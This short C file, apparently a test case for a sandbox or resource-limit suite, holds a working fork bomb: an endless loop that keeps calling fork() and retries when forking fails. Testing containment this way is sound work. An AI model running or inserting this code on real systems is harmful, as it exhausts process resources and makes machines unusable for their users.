/* {timeout=5s} A fork bomb: every child forks as well, and none ends. */
#include "attack.h"

int main(void)
{
    for (;;)
        if (fork() < 0)
            nap(0.001);
}
